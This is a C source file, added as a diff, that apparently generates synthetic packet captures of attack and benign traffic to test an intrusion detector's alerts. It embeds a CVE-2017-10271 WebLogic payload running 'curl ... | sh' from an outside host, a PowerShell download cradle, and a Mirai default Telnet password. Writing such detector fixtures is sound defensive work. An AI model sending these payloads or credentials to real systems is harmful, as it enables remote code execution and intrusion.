@@ -1,0 +1,590 @@
+/*
+ * attackgen.c - the attack scenario generator: crafts a capture for each
+ * attack family the built-in detectors know, and benign look-alikes that
+ * must not raise them. Checksums are valid and TCP conversations complete
+ * (handshake, acknowledged data, close), so tshark reads them as real
+ * traffic.
+ *
+ *   mm-attackgen --list
+ *   mm-attackgen SCENARIO OUT.pcap
+ *
+ * The company's hosts are in 192.168.1.0/24; outsiders use public
+ * addresses. Each scenario says what it holds and what a detector should
+ * make of it (--list prints the same).
+ */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <zlib.h>
+
+#include "pktw.h"
+
+#define SEC 1000000ULL
+
+static const addr *lan_host(int i)
+{
+    static addr a[256];
+    a[i] = A4(192, 168, 1, i);
+    return &a[i];
+}
+
+/* --- protocol pieces ------------------------------------------------------ */
+
+static size_t put16(uint8_t *p, unsigned v)
+{
+    p[0] = (uint8_t)(v >> 8);
+    p[1] = (uint8_t)v;
+    return 2;
+}
+
+/* A TLS record holding one handshake message. */
+static size_t tls_hs(uint8_t *o, unsigned rec_ver, uint8_t type, const uint8_t *body, size_t n)
+{
+    o[0] = 22;
+    put16(o + 1, rec_ver);
+    put16(o + 3, (unsigned)(n + 4));
+    o[5] = type;
+    o[6] = (uint8_t)(n >> 16);
+    o[7] = (uint8_t)(n >> 8);
+    o[8] = (uint8_t)n;
+    memcpy(o + 9, body, n);
+    return n + 9;
+}
+
+/* ClientHello: version, suites, SNI (NULL: none), heartbeat extension. */
+static size_t client_hello(uint8_t *o, unsigned ver, const uint16_t *cs, size_t ncs,
+                           const char *sni)
+{
+    uint8_t b[1024];
+    size_t k = 0;
+    k += put16(b + k, ver);
+    for (int i = 0; i < 32; i++)
+        b[k++] = (uint8_t)(i * 7 + 1);
+    b[k++] = 0;                                 /* session id */
+    k += put16(b + k, (unsigned)(ncs * 2));
+    for (size_t i = 0; i < ncs; i++)
+        k += put16(b + k, cs[i]);
+    b[k++] = 1;
+    b[k++] = 0;                                 /* null compression */
+    size_t ext = k;
+    k += 2;
+    if (sni) {
+        size_t l = strlen(sni);
+        k += put16(b + k, 0);
+        k += put16(b + k, (unsigned)(l + 5));
+        k += put16(b + k, (unsigned)(l + 3));
+        b[k++] = 0;
+        k += put16(b + k, (unsigned)l);
+        memcpy(b + k, sni, l);
+        k += l;
+    }
+    k += put16(b + k, 15);                      /* heartbeat: peer allowed to send */
+    k += put16(b + k, 1);
+    b[k++] = 1;
+    put16(b + ext, (unsigned)(k - ext - 2));
+    return tls_hs(o, ver > 0x0301 ? 0x0301 : ver, 1, b, k);
+}
+
+static size_t server_hello(uint8_t *o, unsigned ver, uint16_t cs)
+{
+    uint8_t b[128];
+    size_t k = 0;
+    k += put16(b + k, ver);
+    for (int i = 0; i < 32; i++)
+        b[k++] = (uint8_t)(i * 3 + 5);
+    b[k++] = 0;
+    k += put16(b + k, cs);
+    b[k++] = 0;
+    k += put16(b + k, 5);                        /* extensions: heartbeat */
+    k += put16(b + k, 15);
+    k += put16(b + k, 1);
+    b[k++] = 1;
+    return tls_hs(o, ver, 2, b, k);
+}
+
+/* A TLS conversation up to encrypted application data of n bytes each way. */
+static void tls_session(addr c, uint16_t cp, addr s, uint16_t sp, unsigned ver, uint16_t suite,
+                        const char *sni, size_t app)
+{
+    static const uint16_t suites[] = {0xc02f, 0xc030, 0x009c, 0x002f, 0x0035, 0x000a};
+    uint8_t m[2048];
+    tconn t;
+    tc_open(&t, c, cp, s, sp);
+    tc_send(&t, 0, m, client_hello(m, ver, suites, 6, sni));
+    tc_send(&t, 1, m, server_hello(m, ver, suite));
+    static const uint8_t ccs[] = {20, 3, 3, 0, 1, 1};
+    uint8_t c2[6];
+    memcpy(c2, ccs, 6);
+    c2[2] = (uint8_t)(ver & 0xFF);
+    tc_send(&t, 0, c2, 6);
+    tc_send(&t, 1, c2, 6);
+    static uint8_t rec_[16384 + 5];
+    while (app) {
+        size_t n = app > 16384 ? 16384 : app;
+        rec_[0] = 23;
+        put16(rec_ + 1, ver);
+        put16(rec_ + 3, (unsigned)n);
+        for (size_t i = 0; i < n; i++)
+            rec_[5 + i] = (uint8_t)(i * 131 + 7);
+        tc_send(&t, 0, rec_, n + 5);
+        tc_send(&t, 1, rec_, n + 5);
+        app -= n;
+    }
+    tc_close(&t);
+}
+
+static size_t dns_name(uint8_t *o, const char *name)
+{
+    size_t k = 0;
+    while (*name) {
+        size_t l = strcspn(name, ".");
+        o[k++] = (uint8_t)l;
+        memcpy(o + k, name, l);
+        k += l;
+        name += l + (name[l] == '.');
+    }
+    o[k++] = 0;
+    return k;
+}
+
+/* A query for name and its answer (A records addrs, n of them). */
+static void dns_exchange(addr c, addr srv, uint16_t id, const char *name, const addr *ans, int n)
+{
+    uint8_t q[512];
+    size_t k = 0;
+    k += put16(q + k, id);
+    k += put16(q + k, 0x0100);
+    k += put16(q + k, 1);
+    k += put16(q + k, 0);
+    k += put16(q + k, 0);
+    k += put16(q + k, 0);
+    k += dns_name(q + k, name);
+    k += put16(q + k, 1);
+    k += put16(q + k, 1);
+    udp(c, (uint16_t)(40000 + id % 2000), srv, 53, q, k, 0);
+    put16(q + 2, 0x8180);
+    put16(q + 6, (unsigned)n);
+    for (int i = 0; i < n; i++) {
+        k += put16(q + k, 0xC00C);
+        k += put16(q + k, 1);
+        k += put16(q + k, 1);
+        k += put16(q + k, 0);
+        k += put16(q + k, 300);
+        k += put16(q + k, 4);
+        memcpy(q + k, ans[i].b, 4);
+        k += 4;
+    }
+    udp(srv, 53, c, (uint16_t)(40000 + id % 2000), q, k, 0);
+}
+
+static void http_exchange(addr c, uint16_t cp, addr s, const char *req, const void *body,
+                          size_t blen, const char *ctype)
+{
+    tconn t;
+    char h[512];
+    tc_open(&t, c, cp, s, 80);
+    tc_send(&t, 0, req, strlen(req));
+    int hl = snprintf(h, sizeof h, "HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %zu\r\n\r\n",
+                      ctype, blen);
+    tc_send(&t, 1, h, (size_t)hl);
+    if (blen)
+        tc_send(&t, 1, body, blen);
+    tc_close(&t);
+}
+
+/* A small Windows program: DOS stub, PE header, padding. */
+static size_t fake_pe(uint8_t *o, size_t n)
+{
+    memset(o, 0, n);
+    o[0] = 'M';
+    o[1] = 'Z';
+    o[0x3c] = 0x80;
+    memcpy(o + 0x80, "PE\0\0", 4);
+    o[0x84] = 0x4c;
+    o[0x85] = 0x01;                             /* i386 */
+    o[0x96] = 0x02;                             /* executable image */
+    o[0x98] = 0x0b;
+    o[0x99] = 0x01;                             /* PE32 optional header */
+    memcpy(o + 0x4e, "This program cannot be run in DOS mode.", 39);
+    for (size_t i = 0x200; i < n; i++)
+        o[i] = (uint8_t)(i * 17 + 3);
+    return n;
+}
+
+/* X.224 connection request with a cookie, and the confirm. */
+static void rdp_attempt(addr c, uint16_t cp, addr s, const char *user, size_t session_bytes)
+{
+    uint8_t m[256];
+    tconn t;
+    tc_open(&t, c, cp, s, 3389);
+    int cl = snprintf((char *)m + 11, 100, "Cookie: mstshash=%s\r\n", user);
+    size_t n = 11 + (size_t)cl;
+    memcpy(m + n, "\x01\x00\x08\x00\x03\x00\x00\x00", 8);   /* RDP_NEG_REQ: TLS|CredSSP */
+    n += 8;
+    m[0] = 3;
+    m[1] = 0;
+    put16(m + 2, (unsigned)n);
+    m[4] = (uint8_t)(n - 5);
+    m[5] = 0xE0;
+    memset(m + 6, 0, 5);
+    tc_send(&t, 0, m, n);
+    static const uint8_t cc[] = {3, 0, 0, 19, 14, 0xD0, 0, 0, 0x12, 0x34, 0,
+                                 0x02, 0x00, 0x08, 0x00, 0x02, 0, 0, 0};
+    tc_send(&t, 1, cc, sizeof cc);
+    /* what follows is TLS/CredSSP: opaque bytes, a little for a failed
+     * login, a lot for a session that works */
+    static uint8_t blob[1400];
+    for (size_t i = 0; i < sizeof blob; i++)
+        blob[i] = (uint8_t)(i * 29 + 1);
+    tc_send(&t, 0, blob, 600);
+    tc_send(&t, 1, blob, 1200);
+    while (session_bytes) {
+        size_t k = session_bytes > sizeof blob ? sizeof blob : session_bytes;
+        tc_send(&t, 1, blob, k);
+        session_bytes -= k;
+    }
+    tc_close(&t);
+}
+
+static size_t ntp_mode7(uint8_t *o, int response, uint8_t req, uint16_t items, uint16_t isize)
+{
+    memset(o, 0, 8);
+    o[0] = (uint8_t)((response ? 0x80 : 0) | (2 << 3) | 7);
+    o[1] = 0;                                   /* sequence */
+    o[2] = 3;                                   /* implementation: XNTPD */
+    o[3] = req;
+    put16(o + 4, items);
+    put16(o + 6, isize);
+    size_t n = 8 + (size_t)items * isize;
+    for (size_t i = 8; i < n; i++)
+        o[i] = (uint8_t)(i * 11);
+    return n;
+}
+
+/* --- scenarios ------------------------------------------------------------ */
+
+static void sc_gh0st(void)
+{
+    /* two infected PCs report to their controller: "Gh0st"-framed zlib
+     * messages both ways, one of them a variant with another magic word */
+    static const char *const words[] = {"Gh0st", "xy1zz"};
+    for (int w = 0; w < 2; w++) {
+        tconn t;
+        tc_open(&t, *lan_host(22 + w), (uint16_t)(49200 + w), A4(103, 43, 18, 90), 8000);
+        for (int dir = 0; dir < 2; dir++) {
+            uint8_t raw[300], z[400], m[512];
+            for (size_t i = 0; i < sizeof raw; i++)
+                raw[i] = dir ? (uint8_t)('a' + i % 7) : (uint8_t)"WinXP SP3 CPU 2GHz "[i % 19];
+            uLongf zl = sizeof z;
+            compress(z, &zl, raw, sizeof raw);
+            size_t ml = strlen(words[w]);
+            size_t total = ml + 8 + zl;
+            memcpy(m, words[w], ml);
+            m[ml] = (uint8_t)total;
+            m[ml + 1] = (uint8_t)(total >> 8);
+            m[ml + 2] = m[ml + 3] = 0;
+            m[ml + 4] = (uint8_t)sizeof raw;
+            m[ml + 5] = (uint8_t)(sizeof raw >> 8);
+            m[ml + 6] = m[ml + 7] = 0;
+            memcpy(m + ml + 8, z, zl);
+            tc_send(&t, dir, m, total);
+        }
+        tc_close(&t);
+    }
+}
+
+static void sc_rdp_bruteforce(void)
+{
+    /* an outsider guesses Administrator's password 14 times, then logs in */
+    addr ext = A4(185, 220, 101, 5), srv = *lan_host(50);
+    for (int i = 0; i < 14; i++) {
+        rdp_attempt(ext, (uint16_t)(51000 + i), srv, "Administrator", 0);
+        now_us += 3 * SEC;
+    }
+    rdp_attempt(ext, 51100, srv, "Administrator", 300000);
+}
+
+static void sc_rdp_single(void)
+{
+    /* benign: one administrator at home connects once and works */
+    rdp_attempt(A4(60, 100, 20, 30), 52000, *lan_host(51), "tanaka", 300000);
+}
+
+static void sc_rdp_sweep(void)
+{
+    /* an infected PC opens RDP to 15 neighbours in a few seconds */
+    for (int i = 0; i < 15; i++) {
+        addr dst = *lan_host(100 + i);
+        tcp(*lan_host(24), (uint16_t)(53000 + i), dst, 3389, 1, 0, S, "", 0);
+        tcp(dst, 3389, *lan_host(24), (uint16_t)(53000 + i), 9, 2, R | A, "", 0);
+        now_us += 200000;
+    }
+}
+
+static void sc_ntp_flood(void)
+{
+    /* 1500 monlist answers from 20 reflectors land on the company's router */
+    addr victim = *lan_host(1);
+    uint8_t m[512];
+    for (int i = 0; i < 1500; i++) {
+        addr r = A4(45, 60 + i % 20, 10, 7);
+        udp(r, 123, victim, 44444, m, ntp_mode7(m, 1, 42, 6, 72), 0);
+        now_us += 20000;
+    }
+}
+
+static void sc_ntp_reflector(void)
+{
+    /* the company's NTP server answers monlist to the Internet */
+    addr ext = A4(77, 88, 5, 5), srv = *lan_host(10);
+    uint8_t m[512];
+    for (int r = 0; r < 3; r++) {
+        udp(ext, 57000, srv, 123, m, ntp_mode7(m, 0, 42, 0, 0) + 40, 0);
+        for (int i = 0; i < 10; i++)
+            udp(srv, 123, ext, 57000, m, ntp_mode7(m, 1, 42, 6, 72), 0);
+        now_us += SEC;
+    }
+}
+
+static void sc_ntp_benign(void)
+{
+    /* benign: ordinary time sync (mode 3/4) and a mode 6 read-variables query */
+    addr c = *lan_host(30), s = A4(133, 243, 238, 163);
+    uint8_t m[48] = {0x23};
+    udp(c, 123, s, 123, m, 48, 0);
+    m[0] = 0x24;
+    m[1] = 2;
+    udp(s, 123, c, 123, m, 48, 0);
+    uint8_t q[12] = {0x16, 0x02, 0, 1};         /* v2 mode 6, READVAR */
+    udp(c, 50123, *lan_host(10), 123, q, 12, 0);
+    uint8_t a[60] = {0x16, 0x82, 0, 1};
+    memcpy(a + 12, "version=\"ntpd 4.2.8\"", 20);
+    a[11] = 20;
+    udp(*lan_host(10), 123, c, 50123, a, 32, 0);
+}
+
+static void sc_sslv3_server(void)
+{
+    /* an old company server accepts SSLv3 with a CBC suite from the Internet */
+    tls_session(A4(91, 121, 33, 4), 50500, *lan_host(80), 443, 0x0300, 0x000a, NULL, 2000);
+}
+
+static void sc_tls_benign(void)
+{
+    /* benign: TLS 1.2 with large records and a well-formed heartbeat
+     * exchange; HTTPS to a CDN address that DNS gave, without SNI */
+    addr c = *lan_host(31), cdn = A4(23, 45, 67, 89);
+    dns_exchange(c, A4(8, 8, 8, 8), 7, "static.example-cdn.net", &cdn, 1);
+    tls_session(c, 50600, cdn, 443, 0x0303, 0xc02f, NULL, 60000);
+    tls_session(c, 50601, A4(151, 101, 1, 69), 443, 0x0303, 0xc02f, "news.example.org", 40000);
+}
+
+static void sc_weblogic(void)
+{
+    /* CVE-2017-10271: XMLDecoder payload starting a process, to a company server */
+    static const char body[] =
+        "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\">"
+        "<soapenv:Header><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\">"
+        "<java version=\"1.8.0_131\" class=\"java.beans.XMLDecoder\">"
+        "<void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\">"
+        "<void index=\"0\"><string>/bin/bash</string></void><void index=\"1\"><string>-c</string>"
+        "</void><void index=\"2\"><string>curl -s http://198.51.7.7/x.sh | sh</string></void>"
+        "</array><void method=\"start\"/></void></java></work:WorkContext></soapenv:Header>"
+        "<soapenv:Body/></soapenv:Envelope>";
+    char req[2048];
+    snprintf(req, sizeof req,
+             "POST /wls-wsat/CoordinatorPortType HTTP/1.1\r\nHost: 192.168.1.90:7001\r\n"
+             "Content-Type: text/xml\r\nContent-Length: %zu\r\n\r\n%s", strlen(body), body);
+    tconn t;
+    tc_open(&t, A4(5, 188, 86, 5), 40400, *lan_host(90), 7001);
+    tc_send(&t, 0, req, strlen(req));
+    static const char r[] = "HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\n\r\n";
+    tc_send(&t, 1, r, strlen(r));
+    tc_close(&t);
+}
+
+static void sc_powershell(void)
+{
+    /* a macro starts PowerShell, which fetches a script */
+    static const char req[] =
+        "GET /a.ps1 HTTP/1.1\r\nHost: cdn-update.duckdns.org\r\n"
+        "User-Agent: Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.1\r\n\r\n";
+    static const char body[] = "IEX (New-Object Net.WebClient).DownloadString('http://x/y')\n";
+    http_exchange(*lan_host(25), 49800, A4(104, 21, 30, 40), req, body, strlen(body), "text/plain");
+}
+
+static void sc_sinkhole(void)
+{
+    /* an infected PC looks up its controller: sinkholed and dead answers */
+    addr c = *lan_host(26), res = A4(8, 8, 8, 8);
+    addr sink = A4(131, 253, 18, 12), zero = A4(0, 0, 0, 0);
+    dns_exchange(c, res, 100, "update-checker-cdn.com", &sink, 1);
+    now_us += 120 * SEC;
+    dns_exchange(c, res, 101, "kx8fw2-panel.net", &zero, 1);
+}
+
+static void sc_bare_ip(void)
+{
+    /* HTTPS with no name to an address no DNS answer gave */
+    tls_session(*lan_host(27), 50700, A4(45, 77, 12, 9), 443, 0x0303, 0xc02f, NULL, 3000);
+}
+
+static void sc_exe_disguised(void)
+{
+    /* a program served as a picture, from a dynamic-DNS host */
+    static uint8_t pe[20000];
+    static const char req[] = "GET /img/photo.jpg HTTP/1.1\r\nHost: files.hopto.org\r\n"
+                              "User-Agent: Mozilla/5.0\r\n\r\n";
+    http_exchange(*lan_host(28), 49900, A4(104, 18, 5, 5), req, pe,
+                  fake_pe(pe, sizeof pe), "image/jpeg");
+}
+
+static void sc_exe_benign(void)
+{
+    /* benign: a named vendor serves setup.exe */
+    static uint8_t pe[20000];
+    static const char req[] = "GET /downloads/setup.exe HTTP/1.1\r\nHost: download.example.com\r\n"
+                              "User-Agent: Mozilla/5.0\r\n\r\n";
+    addr srv = A4(93, 184, 216, 34);
+    dns_exchange(*lan_host(29), A4(8, 8, 8, 8), 9, "download.example.com", &srv, 1);
+    http_exchange(*lan_host(29), 49950, srv, req, pe, fake_pe(pe, sizeof pe),
+                  "application/octet-stream");
+}
+
+static void sc_smb_internet(void)
+{
+    /* an SMB2 session from a company PC to a server on the Internet */
+    static const uint8_t neg[] = {
+        0, 0, 0, 106, 0xFE, 'S', 'M', 'B', 64, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
+        0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
+        0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
+        36, 0, 2, 0, 1, 0, 0, 0, 0x7f, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13,
+        14, 15, 16, 0, 0, 0, 0, 0, 0, 0, 0, 0x02, 0x02, 0x10, 0x02};
+    tconn t;
+    tc_open(&t, *lan_host(32), 50800, A4(52, 1, 2, 3), 445);
+    tc_send(&t, 0, neg, sizeof neg);
+    tc_close(&t);
+}
+
+static void sc_smb_benign(void)
+{
+    /* benign: the same negotiation between two company hosts */
+    static const uint8_t neg[] = {
+        0, 0, 0, 106, 0xFE, 'S', 'M', 'B', 64, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
+        0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
+        0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
+        36, 0, 2, 0, 1, 0, 0, 0, 0x7f, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13,
+        14, 15, 16, 0, 0, 0, 0, 0, 0, 0, 0, 0x02, 0x02, 0x10, 0x02};
+    tconn t;
+    tc_open(&t, *lan_host(33), 50900, *lan_host(5), 445);
+    tc_send(&t, 0, neg, sizeof neg);
+    tc_close(&t);
+}
+
+static void sc_telnet_inbound(void)
+{
+    /* Mirai-style: an outsider logs in to a camera's Telnet */
+    tconn t;
+    tc_open(&t, A4(180, 76, 9, 9), 41000, *lan_host(60), 23);
+    tc_send(&t, 1, "login: ", 7);
+    tc_send(&t, 0, "root\r\n", 6);
+    tc_send(&t, 1, "Password: ", 10);
+    tc_send(&t, 0, "xc3511\r\n", 8);
+    tc_close(&t);
+}
+
+static void sc_ssh_guess(void)
+{
+    /* 12 short SSH sessions from one outsider to a company server */
+    for (int i = 0; i < 12; i++) {
+        tconn t;
+        tc_open(&t, A4(61, 177, 172, 13), (uint16_t)(42000 + i), *lan_host(70), 22);
+        tc_send(&t, 1, "SSH-2.0-OpenSSH_8.4\r\n", 21);
+        tc_send(&t, 0, "SSH-2.0-libssh2_1.9.0\r\n", 23);
+        uint8_t blob[900];
+        memset(blob, 0x41, sizeof blob);
+        tc_send(&t, 0, blob, 600);
+        tc_send(&t, 1, blob, 900);
+        tc_send(&t, 0, blob, 300);
+        tc_send(&t, 1, blob, 100);
+        tc_close(&t);
+        now_us += 2 * SEC;
+    }
+}
+
+static void sc_heartbleed_benign(void)
+{
+    /* benign: a well-formed heartbeat request and its same-size response */
+    tconn t;
+    uint8_t m[2048];
+    static const uint16_t suites[] = {0xc02f};
+    addr c = *lan_host(34), s = A4(151, 101, 1, 70);
+    tc_open(&t, c, 50950, s, 443);
+    tc_send(&t, 0, m, client_hello(m, 0x0303, suites, 1, "secure.example.org"));
+    tc_send(&t, 1, m, server_hello(m, 0x0303, 0xc02f));
+    uint8_t hb[5 + 3 + 16 + 16] = {24, 3, 3, 0, 35, 1, 0, 16};
+    tc_send(&t, 0, hb, sizeof hb);
+    hb[5] = 2;
+    tc_send(&t, 1, hb, sizeof hb);
+    tc_close(&t);
+}
+
+typedef struct scenario {
+    const char *name;
+    void (*fn)(void);
+    const char *expect;         /* what the detectors should make of it */
+} scenario;
+
+static const scenario scenarios[] = {
+    {"gh0st", sc_gh0st, "8700060 gh0st (two PCs: magic Gh0st and a changed magic)"},
+    {"rdp-bruteforce", sc_rdp_bruteforce,
+     "8700012 rdp guessing, 8700011 administrator, 8700010 inbound, 8700013 success after guessing"},
+    {"rdp-single", sc_rdp_single, "benign: 8700010 only (severity 3), no 8700012/8700013"},
+    {"rdp-sweep", sc_rdp_sweep, "8700014 outbound RDP to many hosts"},
+    {"ntp-flood", sc_ntp_flood, "8700023 NTP flood received"},
+    {"ntp-reflector", sc_ntp_reflector, "8700020 monlist, 8700021 large mode 7, 8700022 reflector"},
+    {"ntp-benign", sc_ntp_benign, "benign: no alert"},
+    {"sslv3-server", sc_sslv3_server, "8700030 SSLv3 negotiated, 8700031 client, 8700032 exposed"},
+    {"tls-benign", sc_tls_benign, "benign: no alert"},
+    {"weblogic", sc_weblogic, "8700072 WebLogic CVE-2017-10271"},
+    {"powershell", sc_powershell, "8700083 PowerShell, 8700081 DDNS name"},
+    {"sinkhole", sc_sinkhole, "8700082 sinkholed and dead answers, two minutes apart"},
+    {"bare-ip", sc_bare_ip, "8700080 TLS to an unnamed address"},
+    {"exe-disguised", sc_exe_disguised, "8700041 program served as a picture from DDNS"},
+    {"exe-benign", sc_exe_benign, "benign: 8700040 only (severity 3)"},
+    {"smb-internet", sc_smb_internet, "8700053 SMB with the Internet"},
+    {"smb-benign", sc_smb_benign, "benign: no alert"},
+    {"telnet-inbound", sc_telnet_inbound, "8700093 IoT port from the Internet"},
+    {"ssh-guess", sc_ssh_guess, "8700092 password guessing"},
+    {"heartbeat-benign", sc_heartbleed_benign, "benign: no alert"},
+};
+
+int main(int argc, char **argv)
+{
+    size_t ns = sizeof scenarios / sizeof scenarios[0];
+    if (argc == 2 && strcmp(argv[1], "--list") == 0) {
+        for (size_t i = 0; i < ns; i++)
+            printf("%-18s %s\n", scenarios[i].name, scenarios[i].expect);
+        return 0;
+    }
+    if (argc != 3) {
+        fprintf(stderr, "usage: mm-attackgen --list | mm-attackgen SCENARIO OUT.pcap\n");
+        return 2;
+    }
+    for (size_t i = 0; i < ns; i++) {
+        if (strcmp(argv[1], scenarios[i].name) != 0)
+            continue;
+        if (!pw_open(argv[2], 1700000000ULL * SEC)) {
+            perror(argv[2]);
+            return 1;
+        }
+        scenarios[i].fn();
+        if (!pw_close()) {
+            perror(argv[2]);
+            return 1;
+        }
+        return 0;
+    }
+    fprintf(stderr, "mm-attackgen: unknown scenario '%s' (--list)\n", argv[1]);
+    return 2;
+}
